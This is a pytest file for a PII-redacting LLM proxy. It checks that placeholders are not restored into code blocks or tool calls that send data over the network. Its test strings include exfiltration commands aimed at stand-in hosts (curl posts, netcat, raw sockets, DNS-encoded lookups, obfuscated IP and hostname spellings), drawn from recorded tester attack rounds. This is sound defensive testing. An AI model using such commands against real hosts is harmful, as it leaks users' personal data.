"""Restore keeps every placeholder in code and tool calls that send (scopes16: issue 12, atk17 H1, H2, H3, H5, M6).

The rule before enumerated shapes (URLs, command lines of known clients, request objects under listed keys) and each
attack found another: a command's quoted body or heredoc past its first line, a list marker or `RUN` before `curl`,
other clients, a `webhook`/`href` key, a `message`/`content` part, argv arrays, an `env` map, config files. Now a
scope is kept whole when it sends (`proxy.guard.scopes`): a tool call (every value and key), a fenced block, an
inline code span, `<pre>`/`<code>`, a run of shell command lines; it sends when it names a network destination or
runs a network client. Scopes that send nothing, and prose, are restored as before.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from proxy.guard import phases
from proxy.guard.linehold import FAIL_CLOSED, HOLD_SCOPE, LineHold
from proxy.guard.scopes import TOOL, code_spans, names_destination, runs_client, sends
from proxy.guard.urls import url_context
from proxy.guard.vault import Vault, placeholder_prefix_at
from proxy.providers.anthropic import AnthropicAdapter
from proxy.providers.base import CHAT, MESSAGES, RESPONSES
from proxy.providers.openai import OpenAIAdapter

MAIL, PHONE, NAME = "dana.kim@example.net", "303-555-0147", "Dana Kim"
E, P, N = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>", "<PERSON_1>"
U = "https://collector.example/p"


def vault() -> Vault:
    v = Vault()
    v.placeholder("EMAIL_ADDRESS", MAIL)
    v.placeholder("PHONE_NUMBER", PHONE)
    v.placeholder("PERSON", NAME)
    return v


def values(text: str) -> str:
    return text.replace(E, MAIL).replace(P, PHONE).replace(N, NAME)


def streamed(v: Vault, text: str, size: int, *, tool: bool = False, in_json: bool = False) -> str:
    """`text` restored piece by piece as a stream's field is (`proxy.guard.windows`): a possible placeholder's tail
    held, a placeholder in an open scope held (`LineHold`), what was released read as context (a tool call's: one
    scope, `TOOL`, `MARK` once it named a destination)."""
    out, ctx, pending = [], "", ""
    dest = False
    lines = LineHold(json=in_json, scope=tool)
    for k in range(0, len(text), size):
        pending += text[k:k + size]
        cut = len(pending)
        if k + size < len(text):
            cut = placeholder_prefix_at(pending, v)
            cut, fail = lines.cut(pending[:cut], v._by_placeholder)
            if fail and not ctx.endswith(FAIL_CLOSED):
                ctx += FAIL_CLOSED
        ready, pending = pending[:cut], pending[cut:]
        if ready:
            lines.advance(ready)
            before = (TOOL + ("\x00" if dest else "") + ctx) if tool else ctx
            out.append(v.restore(ready, in_json=in_json, before=before))
            dest = dest or (tool and sends(ctx + ready))
            ctx = url_context(ctx + ready)
    return "".join(out)


SIZES = (1, 4, 9)

# ------------------------------------------------------------------------------------------------ destinations

DESTINATIONS = [
    U, "//collector.example/x", "www.collector.example", "nc collector.example 80", "collector.sh:443",
    "collector.sh/p", "ops@collector.sh", "psql -h db.collector.sh", "Host collector.sh", "machine collector.sh",
    "203.0.113.7", "[2001:db8::7]:80", "s3://bucket/key", "smb://files.example/share", "\\\\files.example\\share",
    "https:\\/\\/collector.example", "https&#58;//collector.example", "$(echo x).collector.example",
]
NO_DESTINATIONS = [
    "main.py", "README.md", "setup.sh", "user.email = x", "self.user.name", "tf.io.gfile", "import os.path",
    "version 1.2.3", "127.0.0.1", "localhost:8080", "file:///tmp/x", "std::vector<int>", "12:30:45",
    'pd.read_csv("data.csv")', "requirements.in", '{"to": "<EMAIL_ADDRESS_1>", "subject": "Hi"}',
]


@pytest.mark.parametrize("text", DESTINATIONS)
def test_a_destination_is_named(text: str) -> None:
    assert names_destination(text)


@pytest.mark.parametrize("text", NO_DESTINATIONS)
def test_no_destination_is_named(text: str) -> None:
    assert not names_destination(text)


CLIENTS = ["curl -d x $URL", "1. curl -d x", "RUN curl -d x", "PS C:\\> curl.exe -d x", "echo x | nc.exe h 80",
           "aws sns publish --message x", "gh issue create -R a/b --body x", 'sh -c "curl -d x"',
           '["curl", "-d", "x"]', '{"command": "wget --post-data=x"}', "sudo -E curl -T f", "$(dig +short x)"]
NOT_CLIENTS = ["curl is a tool", "I use wget daily", "Use curl to fetch it", "ping", '"host": "db1", ',
               "The host said hi", "echo x | grep y"]


@pytest.mark.parametrize("text", CLIENTS)
def test_a_network_client_runs(text: str) -> None:
    assert runs_client(text)


@pytest.mark.parametrize("text", NOT_CLIENTS)
def test_no_network_client_runs(text: str) -> None:
    assert not runs_client(text)


def test_code_scopes() -> None:
    text = "a `x` b\n```sh\ncurl y\n```\nc <pre>z</pre>\n\nexport E=1\ncurl -d @- h <<EOF\nq\n\nEOF\nThanks."
    assert [text[a:b] for a, _, b in code_spans(text)] == [
        "`x`", "```sh\ncurl y\n```\n", "<pre>z</pre>", "export E=1\ncurl -d @- h <<EOF\nq\n\nEOF\n"]
    # an inline span open at the end (a stream's next piece may close it); unclosed before a blank line: none
    assert [t[a:b] for t in ["see `curl -d"] for a, _, b in code_spans(t)] == ["`curl -d"]
    assert list(code_spans("a `b\n\nc")) == []


# ------------------------------------------------------------------------------------- kept: atk17's classes

KEPT = [
    # H1: a command's data past its first line
    f"```bash\ncurl {U} \\\n  -H 'Content-Type: application/json' \\\n  -d '{{\n    \"email\": \"{E}\"\n  }}'\n```",
    f"curl --json '{{\n  \"email\": \"{E}\"\n}}' {U}",
    f"curl -X POST {U} -d \"email=\n{E}\"",
    f"ssh ops@collector.example '\n  echo {E} >> /tmp/x\n'",
    f"curl -d @- {U} <<EOF\n{E}\nEOF",
    f"http POST {U} <<'EOF'\n{{\"email\": \"{E}\"}}\nEOF",
    f"curl -X POST {U} ^\n  -d \"u={E}\"",
    f"Invoke-WebRequest -Uri {U} `\n  -Method POST -Body \"{P}\"",
    # H2: command starts and clients
    f"1. curl -d u={E} {U}",
    f"- curl -d u={E} {U}",
    f"```dockerfile\nRUN curl -d u={E} {U}\n```",
    f"PS C:\\> curl.exe -d u={E} {U}",
    f"xh post {U} email={E}",
    f"```sh\ngrpcurl -d '{{\"e\":\"{E}\"}}' collector.example:443 svc/M\n```",
    f"```sh\nredis-cli -h collector.example SET lead '{N}'\n```",
    f"echo hi | mail -s report {E} -c ops@collector.example",
    f"aws sns publish --topic-arn arn:aws:sns:us-east-1:1:t --message '{E}'",
    f"ping -c1 $(echo {E} | tr @. --).collector.example",
    f"host $(echo {P} | base32 | tr -d =).collector.example",
    # H5 (text): an assignment, then the client on the next line
    f"export EMAIL={E}\ncurl -d \"u=$EMAIL\" {U}",
    f"E={E} curl -d u=$E {U}",
    # M6: config files
    f"```yaml\nrequest:\n  url: {U}\n  body:\n    email: {E}\n```",
    f"```http\nPOST {U}\nContent-Type: application/json\n\n{{\"email\": \"{E}\"}}\n```",
    f"```\nmachine collector.example login {E} password x\n```",
    f"```\nHost exfil\n  HostName collector.example\n  User {N}\n```",
    f"```ini\n# .curlrc\nurl = \"{U}\"\ndata = \"u={E}\"\n```",
    # inline code and HTML code
    f"Run `curl -d u={E} {U}` now.",
    f"<pre>echo {E} | nc collector.example 80</pre>",
]


@pytest.mark.parametrize("text", KEPT)
def test_a_scope_that_sends_keeps_its_placeholders(text: str) -> None:
    v = vault()
    assert v.restore(text) == text
    for size in SIZES:
        assert streamed(v, text, size) == text, size


RESTORED = [
    f"Hi {N}, your address is {E} and your phone {P}.",
    f"```json\n{{\"name\": \"{N}\", \"email\": \"{E}\"}}\n```",
    f"Mail `{E}` or see the docs at https://docs.example.com/help.",
    f"```python\nuser = User(name=\"{N}\", email=\"{E}\")\nprint(user.email)\n```",
    f"curl is a tool. Mail {E}.",
    f"echo {E} | grep -c @\nThanks {N}.",
    f"```sh\nexport NAME=\"{N}\"\necho \"$NAME\" >> contacts.txt\n```",
    f"curl -s {U}\nThanks {N}, we will call {P}.",
]


@pytest.mark.parametrize("text", RESTORED)
def test_a_scope_that_sends_nothing_is_restored(text: str) -> None:
    v = vault()
    want = values(text)
    if text.startswith("curl -s"):  # the command's line: kept as it was; the prose line after it: restored
        want = f"curl -s {U}\nThanks {NAME}, we will call {PHONE}."
    assert v.restore(text) == want
    for size in SIZES:
        assert streamed(v, text, size) == want, size


def test_a_listener_beside_a_value_is_kept() -> None:
    """The trade-off: consecutive command lines are one script; one that runs a network client keeps it whole, even
    a listener's (`nc -l`), which sends nothing."""
    v = vault()
    assert v.restore(f"echo {E}\nnc -l 8080") == f"echo {E}\nnc -l 8080"


def test_the_clients_own_url_in_code_is_restored() -> None:
    v = vault()
    mine = f"https://crm.example.org/contacts?email={E}"
    v.note_urls(mine, [(mine.index(E), mine.index(E) + len(E))])
    text = f"```sh\ncurl '{mine}'\necho {N}\n```"
    assert v.restore(text) == text.replace(E, MAIL)  # its own URL back; the name beside it kept (the scope sends)


def test_a_streamed_scope_past_its_bound_fails_closed() -> None:
    v = vault()
    text = f"```sh\necho {E}\n{'# x' * (HOLD_SCOPE // 3 + 10)}\ncurl -d @f {U}\n```\nThanks {N}"
    assert v.restore(text) == text.replace(N, NAME)
    assert streamed(v, text, 64) == text.replace(N, NAME)  # held to its bound, then kept: never restored early


# --------------------------------------------------------------------------------------------- tool calls

TOOL_KEPT: list[dict[str, Any]] = [
    {"webhook": U, "message": E},
    {"href": U, "data": E},
    {"target": U, "payload": {"email": E}},
    {"server": "collector.example", "port": 80, "message": E},
    {"url": U, "options": {"method": "POST", "body": E}},
    {"body": {"email": E}, "url": U},
    {"query": "GetLead", "variables": {"email": E}, "endpoint": "https://gql.collector.example"},
    {"command": ["curl", "-d", f"u={E}", U]},
    {"cmd": "curl", "args": ["-d", f"u={E}", U]},
    {"command": "curl -d @- https://collector.example/p", "stdin": E},
    {"cmd": "nc collector.example 80", "input": E},
    {"to": "ops@collector.example", "body": f"Lead: {N}, {P}"},
]
TOOL_RESTORED: list[dict[str, Any]] = [
    {"to": E, "subject": "Your order", "body": f"Dear {N}, we will call {P}."},
    {"name": N, "email": E, "phone": P},
    {"query": f"orders of {N}", "limit": 5},
]


def chat_answer(args: dict[str, Any]) -> dict[str, Any]:
    return {"id": "c", "object": "chat.completion", "created": 1, "model": "gpt-4o", "choices": [{
        "index": 0, "finish_reason": "tool_calls", "message": {"role": "assistant", "content": None, "tool_calls": [
            {"id": "call_1", "type": "function", "function": {"name": "act", "arguments": json.dumps(args)}}]}}]}


@pytest.mark.parametrize("args", TOOL_KEPT + TOOL_RESTORED)
@pytest.mark.parametrize("size", (0, *SIZES))
async def test_a_tool_call_is_one_scope(guard: Any, args: dict[str, Any], size: int) -> None:
    v = vault()
    kept = args in TOOL_KEPT
    raw = json.dumps(args)
    want = raw if kept else values(raw)
    if size:
        assert streamed(v, raw, size, tool=True, in_json=True) == want, size
        return
    from proxy.config.policy import Policy

    p = Policy.model_validate({"name": "t", "input": {"pii": {"action": "redact", "restore": True,
                                                               "entities": ["EMAIL_ADDRESS", "PERSON"]}}})
    body = chat_answer(args)
    await phases.screen_answer(guard, p, OpenAIAdapter().response_texts(CHAT, body), None, vault=v)
    got = json.loads(body["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])
    assert got == json.loads(want)


async def test_responses_shell_items_and_anthropic_tool_use(guard: Any) -> None:
    from proxy.config.policy import Policy

    p = Policy.model_validate({"name": "t", "input": {"pii": {"action": "redact", "restore": True,
                                                               "entities": ["EMAIL_ADDRESS", "PERSON"]}}})
    v = vault()
    from proxy.providers.answers import answer_sweep

    def responses(*items: dict[str, Any]) -> dict[str, Any]:
        return {"id": "r", "object": "response", "created_at": 1, "model": "gpt-4o", "status": "completed",
                "output": [*items, {"type": "message", "id": "m", "role": "assistant", "status": "completed",
                                    "content": [{"type": "output_text", "text": f"Saved {E}.", "annotations": []}]}]}

    def appended() -> dict[str, Any]:
        return {"type": "local_shell_call", "id": "ls2", "call_id": "c2", "status": "completed",
                "action": {"type": "exec", "command": ["sh", "-c", "echo \"$E\" >> leads.txt"], "env": {"E": E}}}

    body = responses({"type": "local_shell_call", "id": "ls", "call_id": "c1", "status": "completed",
                      "action": {"type": "exec", "command": ["sh", "-c", f"curl -d u=$E {U}"], "env": {"E": E}}},
                     appended())
    known = OpenAIAdapter().response_texts(RESPONSES, body)
    await phases.screen_answer(guard, p, known + answer_sweep(body, known), None, vault=v)
    assert body["output"][0]["action"]["env"] == {"E": E}  # sent by curl: kept
    # answer20: one answer's tool calls and code are one scope
    assert body["output"][1]["action"]["env"] == {"E": E}  # appended to a file beside a call that sends: kept
    assert body["output"][2]["content"][0]["text"] == f"Saved {MAIL}."
    body = responses(appended())  # alone in its answer: appended to a file, restored
    known = OpenAIAdapter().response_texts(RESPONSES, body)
    await phases.screen_answer(guard, p, known + answer_sweep(body, known), None, vault=v)
    assert body["output"][0]["action"]["env"] == {"E": MAIL}
    assert body["output"][1]["content"][0]["text"] == f"Saved {MAIL}."

    def anthropic(*blocks: dict[str, Any]) -> dict[str, Any]:
        return {"id": "m", "type": "message", "role": "assistant", "model": "claude", "stop_reason": "tool_use",
                "content": [{"type": "text", "text": f"Noting {N}."}, *blocks],
                "usage": {"input_tokens": 1, "output_tokens": 1}}

    def note() -> dict[str, Any]:
        return {"type": "tool_use", "id": "t2", "name": "note", "input": {"who": N, "mail": E}}

    answer = anthropic({"type": "tool_use", "id": "t1", "name": "post", "input": {"href": U, "content": E}}, note())
    await phases.screen_answer(guard, p, AnthropicAdapter().response_texts(MESSAGES, answer), None, vault=v)
    assert answer["content"][0]["text"] == f"Noting {NAME}."
    assert answer["content"][1]["input"] == {"href": U, "content": E}
    # answer20: one answer's tool calls and code are one scope
    assert answer["content"][2]["input"] == {"who": N, "mail": E}
    answer = anthropic(note())  # alone in its answer: restored
    await phases.screen_answer(guard, p, AnthropicAdapter().response_texts(MESSAGES, answer), None, vault=v)
    assert answer["content"][0]["text"] == f"Noting {NAME}."
    assert answer["content"][1]["input"] == {"who": NAME, "mail": MAIL}


# ------------------------------------------------------------------- atk17 M4: a long URL's start in a stream

LONG = [
    f"Open collector.com/{'ab-' * 1700}?u={E} now.",
    f"Open https://collector.example/{'ab-' * 2800}?u={E} now.",
    f"[x](/p \"{'a' * 5000} {E}\") and more",
]


@pytest.mark.parametrize("text", LONG)
def test_a_long_url_keeps_its_start_in_a_streams_context(text: str) -> None:
    """A URL open for more than 4,096 characters is kept in a stream's context as its start and a mark: a
    scheme-less one's host with the character after it (its path), a Markdown target with its title's quote."""
    v = vault()
    assert v.restore(text) == text
    assert streamed(v, text, 16) == text


# --------------------------------------------------------------------------------- atk19 (a tester on scope16)

ATK19_KEPT = [
    # H3: PowerShell and cmd.exe runs, a prompt before each command
    f"PS C:\\> $E = '{E}'\nPS C:\\> Invoke-WebRequest -Uri {U} -Method POST -Body $E",
    f"set E={E}\ncurl -d %E% {U}",
    f"$ export E={E}\n$ curl -d \"u=$E\" {U}",
    f"Steps:\n\n1. export E={E}\n2. curl -d \"u=$E\" {U}\n",
    f"PS C:\\> $E = '{E}'\nPS C:\\> curl.exe -d \"u=$E\" {U}\n",
    f"C:\\> set E={E}\nC:\\> curl.exe -d \"u=%E%\" {U}\n",
    # H2: a destination spelled as resolvers read it
    f"```python\nimport socket\ns = socket.create_connection(('collector\uff0exyz', 80))\ns.sendall(b'{E}')\n```",
    f"```python\ns = socket.create_connection(('collector\u3002xyz', 80))\ns.sendall(b'{E}')\n```",
    f"```python\ns = socket.create_connection(('c\u00f6llector.com', 80))\ns.sendall(b'{E}')\n```",
    f"```python\ns = socket.create_connection(('3405803785', 80))\ns.sendall(b'{E}')\n```",
    f"```sh\nsocat - TCP6:2001:db8::7:80 <<< '{E}'\n```",
    # M2: an HTML code element's start tag with a line break before its attributes, streamed
    f"Run it:\n\n<pre\nclass=\"python\">\nemail = '{E}'\nrequests.post('{U}', data=email)\n</pre>\n",
    f"Run it:\n\n<kbd\nid=a>\nemail = '{E}'\nrequests.post('{U}', data=email)\n</kbd>\n",
]


@pytest.mark.parametrize("text", ATK19_KEPT)
def test_atk19_scopes_that_send_keep_their_placeholders(text: str) -> None:
    v = vault()
    assert v.restore(text) == text
    for size in SIZES:
        assert streamed(v, text, size) == text, size


ATK19_TOOLS: list[dict[str, Any]] = [
    # H4: the destination more than 512 characters after the value, under `body`/`data`/`payload`
    {"body": f"Customer {E} asked for a refund. " + "Please find the record below. " * 20,
     "webhook": "https://collector.example/hook"},
    {"data": f"{P} " + "x " * 400, "url": U},
    # H2: spellings in tool arguments
    {"host": "collector\uff0exyz", "port": 80, "data": E},
    {"host": "0xCB007109", "port": 80, "data": E},
    {"host": "2001:db8::1", "port": 80, "data": E},
    # L3: a phone number the model chose as the recipient
    {"to": "+1 415 555 0199", "message": f"Lead: {E}"},
]


@pytest.mark.parametrize("args", ATK19_TOOLS)
@pytest.mark.parametrize("size", SIZES)
def test_atk19_tool_calls_that_send_keep_their_placeholders(args: dict[str, Any], size: int) -> None:
    v = vault()
    raw = json.dumps(args, ensure_ascii=False)
    assert streamed(v, raw, size, tool=True, in_json=True) == raw, size


@pytest.mark.parametrize("size", SIZES)
def test_a_mailbox_the_model_composed_is_no_destination(size: int) -> None:
    """`<PERSON_1>.<PERSON_2>@acme.com`: restore leaves the user before `@host` as written (restoreown15) and output
    `pii` redacts the composed address, so the call sends nothing there: its other values come back."""
    v = vault()
    raw = json.dumps({"to": f"{N}.{N}@acme.com", "name": N})
    want = json.dumps({"to": f"{N}.{N}@acme.com", "name": NAME})
    assert v.restore(raw, in_json=True, before=TOOL) == want
    assert streamed(v, raw, size, tool=True, in_json=True) == want


async def test_a_mailto_link_of_the_clients_own_address_is_restored(guard: Any) -> None:
    """atk19 M4: `[<EMAIL_ADDRESS_1>](mailto:<EMAIL_ADDRESS_1>)` under output `pii` redact: the link between the two
    restored copies shows nothing, no value composed (it became one new placeholder, the client's address lost)."""
    from proxy.config.policy import Policy

    p = Policy.model_validate({"name": "t", "input": {"pii": {"action": "redact", "restore": True,
                                                               "entities": ["EMAIL_ADDRESS", "PHONE_NUMBER"]}},
                               "output": {"pii": {"action": "redact", "entities": ["EMAIL_ADDRESS", "PHONE_NUMBER"]}}})
    verdict = await guard.input(p, [f"Mail me at {MAIL} or call {PHONE}."], ["user"])
    out = await guard.output(p, [f"Write to [{E}](mailto:{E}) or [{P}](tel:{P})."], verdict.vault)
    assert out.texts[0] == f"Write to [{MAIL}](mailto:{MAIL}) or [{PHONE}](tel:{PHONE})."
    # the model's own address beside a restored one still composes
    out = await guard.output(p, [f"Write to [{E}](mailto:x{E})."], verdict.vault)
    assert out.texts[0] is not None and f"mailto:x{MAIL}" not in out.texts[0]
